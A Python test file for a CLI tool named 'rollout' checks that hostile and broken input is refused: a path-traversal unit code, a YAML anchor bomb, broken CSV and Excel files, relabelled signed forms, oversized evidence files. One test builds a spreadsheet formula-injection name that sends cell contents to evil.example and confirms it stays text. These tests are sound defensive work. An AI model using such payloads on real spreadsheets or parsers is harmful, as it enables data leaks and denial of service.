"""Hostile and broken input (issue 13): each hole, refused with its place named, nothing written.

Every test here failed on the main of 2026-11-22: a code that walks out of its folder, a name
that is a live formula, a YAML bomb, crashes on broken files and settings, a header-only
roster that removed every unit, a formula read as a blank rating.
"""

import csv
import io
import subprocess
import sys
import time
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlmodel import Session

from config.settings import get_settings
from models.assessment.catalogue import DEFAULT_CATALOGUE, load_catalogue
from models.assessment.form import read_form, write_form
from models.kernel.database import make_engine
from models.kernel.problems import InputError
from models.kernel.tables import Unit
from tests.cli.test_commands import rollout
from tests.models.test_store import load_and_plan

ROLLOUT = Path(sys.executable).with_name("rollout")
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def units() -> int:
    with Session(make_engine(get_settings().engine_url)) as session:
        return session.scalar(select(func.count()).select_from(Unit)) or 0


def replace_in(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")


def test_a_code_that_walks_out_of_its_folder_is_refused_at_load(engine, programme_dir):
    yaml_path, roster = programme_dir
    replace_in(roster, "HP-TUCUONG,", "../../../../outside/ESCAPE,")
    result = rollout("init", str(yaml_path))
    assert result.exit_code == 2, result.output
    assert f"{roster}:12: code: '../../../../outside/ESCAPE' is not a code" in result.output
    assert units() == 0


def test_a_name_that_is_a_formula_stays_text_in_every_spreadsheet(engine, programme_dir, tmp_path):
    yaml_path, roster = programme_dir
    rows = list(csv.reader(roster.read_text(encoding="utf-8").splitlines()))
    for row in rows:
        if row[0] == "HP-DANGLAM":
            row[1] = EVIL_NAME
    with roster.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    load_and_plan(engine, yaml_path)
    report = tmp_path / "audit.xlsx"
    done = rollout("audit", "report", "--format", "xlsx", "--output", str(report))
    assert done.exit_code == 0, done.output
    sheet = load_workbook(report).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == EVIL_NAME]
    assert cells and all(c.data_type == "s" for c in cells)  # text, not a formula
    status = rollout("status", "--unit", "HP-DANGLAM", "--format", "csv", "--as-of", "2023-03-06")
    names = {r["unit_name"] for r in csv.DictReader(io.StringIO(status.stdout))}
    assert names == {"'" + EVIL_NAME}  # neutralised: a spreadsheet shows it, never runs it
    form = write_form(
        tmp_path / "form.xlsx",
        load_catalogue(DEFAULT_CATALOGUE),
        "P",
        "HP-DANGLAM",
        EVIL_NAME,
        2023,
    )
    sheet = load_workbook(form)["Tự đánh giá"]
    assert (sheet["D3"].value, sheet["D3"].data_type) == (EVIL_NAME, "s")


def test_a_yaml_bomb_is_refused_at_once(home, programme_dir):
    yaml_path, _ = programme_dir
    levels = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    levels += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    yaml_path.write_text(
        yaml_path.read_text(encoding="utf-8") + "\n".join(levels) + "\n", encoding="utf-8"
    )
    started = time.perf_counter()
    result = rollout("init", str(yaml_path))
    assert time.perf_counter() - started < 10  # was: past 90 s and 4 GB
    assert result.exit_code == 2
    assert "anchors and aliases (&a0, *a0) are not accepted" in result.output


def test_broken_rosters_are_named_problems_not_crashes(engine, programme_dir):
    yaml_path, roster = programme_dir
    original = roster.read_text(encoding="utf-8")
    roster.write_text(original + "HP-HUGE," + "x" * 140_000 + ",commune,HP,\n", "utf-8")
    result = rollout("init", str(yaml_path))
    assert result.exit_code == 2, result.output
    assert f"{roster}:15: not a readable CSV row" in result.output
    assert "Traceback" not in result.output
    roster.write_text(original.replace("phường Cầu Tre", "phường Cầu\x00Tre"), "utf-8")
    result = rollout("init", str(yaml_path))
    assert result.exit_code == 2 and "control character" in result.output
    xlsx = roster.with_suffix(".xlsx")
    xlsx.write_text("this is not a workbook", encoding="utf-8")
    replace_in(yaml_path, roster.name, xlsx.name)
    result = rollout("init", str(yaml_path))
    assert result.exit_code == 2 and "not an Excel (.xlsx) workbook" in result.output
    assert units() == 0


def test_a_header_only_roster_removes_nothing(engine, programme_dir):
    yaml_path, roster = programme_dir
    load_and_plan(engine, yaml_path)
    roster.write_text("code,name,level,parent_code,email\n", encoding="utf-8")
    result = rollout("init", str(yaml_path))
    assert result.exit_code == 2, result.output
    assert "has no units, only a header" in result.output
    assert "unknown unit 'HP-HAIAN'" in result.output
    assert units() == 13


def test_bad_settings_are_one_line_without_a_traceback(home):
    for variable, value, expected in (
        ("ROLLOUT_BATCH_SIZE", "0", "ROLLOUT_BATCH_SIZE='0': Input should be greater than 0"),
        ("ROLLOUT_MAIL_CHANNEL", "pigeon", "ROLLOUT_MAIL_CHANNEL='pigeon'"),
    ):
        done = subprocess.run(
            [str(ROLLOUT), "status"],
            capture_output=True,
            text=True,
            env={**__import__("os").environ, variable: value},
        )
        assert done.returncode == 2, done.stderr
        assert expected in done.stderr and "Traceback" not in done.stderr


def test_a_formula_or_a_text_file_is_not_a_filled_form(tmp_path):
    catalogue = load_catalogue(DEFAULT_CATALOGUE)
    form = write_form(tmp_path / "f.xlsx", catalogue, "P", "HP-DANGLAM", "Đằng Lâm", 2023)
    book = load_workbook(form)
    book["Tự đánh giá"]["G12"] = '=IF(1,"Xanh")'
    book.save(form)
    try:
        read_form(form, catalogue)
        raise AssertionError("a formula was read as a rating")
    except InputError as exc:
        assert "Tự đánh giá!G12: a formula" in exc.render()
    fake = tmp_path / "fake.xlsx"
    fake.write_text("not a workbook", encoding="utf-8")
    try:
        read_form(fake, catalogue)
        raise AssertionError("a text file was read as a form")
    except InputError as exc:
        assert "not an .xlsx form" in exc.render()


def test_a_form_relabelled_to_another_unit_is_refused(tmp_path):
    from models.assessment.form import META_SHEET, SHEET

    catalogue = load_catalogue(DEFAULT_CATALOGUE)
    key = b"k" * 32
    form = write_form(tmp_path / "f.xlsx", catalogue, "P", "HP-DANGLAM", "Đằng Lâm", 2023, key=key)
    book = load_workbook(form)
    sheet = book[SHEET]
    sheet["C6"], sheet["C7"] = "Tổ ISO (minh họa)", "15/05/2023"
    book.save(form)
    assert read_form(form, catalogue, key).unit == "HP-DANGLAM"  # as written: accepted
    book[SHEET]["C3"] = "HP-HAIAN"  # the visible cell and the hidden sheet, both relabelled
    book[META_SHEET]["B2"] = "HP-HAIAN"
    book.save(form)
    try:
        read_form(form, catalogue, key)
        raise AssertionError("a relabelled form was accepted")
    except InputError as exc:
        assert "not written by rollout for HP-HAIAN 2023 (its signature does not match" in (
            exc.render()
        )


def test_an_evidence_file_over_the_limit_is_refused_before_it_is_copied(engine, programme_dir):
    from datetime import UTC, date, datetime

    from models.kernel.database import write_session
    from models.kernel.lookups import get_programme
    from models.phases.evidence import Recording, record
    from models.phases.reconcile import reconcile_phase

    load_and_plan(engine, programme_dir[0])
    with write_session(engine) as session:
        programme = get_programme(session, None)
        unit_ids = list(session.scalars(select(Unit.id).where(Unit.code == "HP-HAIAN")))
        reconcile_phase(
            session, programme, "survey", unit_ids, date(2023, 3, 6), "t", datetime.now(UTC)
        )
    big = programme_dir[0].parent / "scan.pdf"
    big.write_bytes(b"%PDF" + b"0" * 3 * 2**20)
    store = get_settings().home / "evidence"
    rec = Recording("HP-HAIAN", "survey", date(2023, 3, 7), "t", "survey_answers", big)
    try:
        with write_session(engine) as session:
            programme = get_programme(session, None)
            record(
                session,
                programme,
                rec,
                date(2023, 3, 7),
                store,
                "t",
                datetime.now(UTC),
                max_bytes=2 * 2**20,
            )
        raise AssertionError("a 3 MB file passed a 2 MB limit")
    except InputError as exc:
        assert "3 MB; evidence files are at most 2 MB (ROLLOUT_EVIDENCE_MAX_MB)" in exc.render()
    assert not store.exists() or not any(store.rglob("*"))


def test_a_control_character_in_the_programme_file_is_named(home, programme_dir):
    yaml_path, _ = programme_dir
    text = yaml_path.read_text(encoding="utf-8")
    title = next(line for line in text.splitlines() if line.startswith("title:"))
    yaml_path.write_text(text.replace(title, 'title: "Kế hoạch\\x00 thí điểm"'), encoding="utf-8")
    result = rollout("init", str(yaml_path))
    assert result.exit_code == 2, result.output
    line = text.splitlines().index(title) + 1
    assert f"{yaml_path}:{line}: title: holds the control character '\\x00'" in result.output
